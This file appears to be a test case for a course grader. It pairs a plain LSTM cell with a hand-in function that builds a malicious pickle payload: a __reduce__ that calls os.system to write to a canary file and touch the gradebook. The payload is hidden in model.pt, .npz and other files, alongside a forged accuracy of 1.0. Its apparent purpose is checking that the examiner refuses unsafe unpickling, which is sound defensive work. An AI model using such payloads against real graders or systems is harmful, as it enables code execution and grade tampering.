# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: hands in runs with weights, model.pt and arrays of objects that run code when they are unpickled
# evidence: damaged|pickle|not kept|left out
# ---
# torch.load or np.load(allow_pickle=True) by the examiner runs it outside of the sandbox.
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy
# %% hand-in
import io
import json
import os
import pickle
import zipfile

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("echo forged >> @CANARY@; touch @COURSE@/gradebook.db",)


def hand_in(notebook):
    data = pickle.dumps(Payload())
    weights = io.BytesIO()
    np.savez(weights, weight=np.array([Payload()], dtype=object))
    torch = io.BytesIO()
    with zipfile.ZipFile(torch, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/version", "3")
    run = {"format": 1, "exercise": "training", "setting": {"model": "RNN", "mode": "LSTM"}, "seed": 0, "metrics": {"val_accuracy": 1.0},
           "environment": {}, "data": {}, "history": {}, "weights": "best.npz"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("speech_commands.ipynb", json.dumps(notebook))
        archive.writestr("results/training/best.json", json.dumps(run))
        archive.writestr("results/training/best.npz", weights.getvalue())
        archive.writestr("results/training/other.json", data)
        archive.writestr("results/training/model.pt", torch.getvalue())
        for name in ("model.pt", "model.pkl", "model.joblib", "weights.npy"):
            archive.writestr(name, data)
    return {"{student}.zip": out.getvalue()}
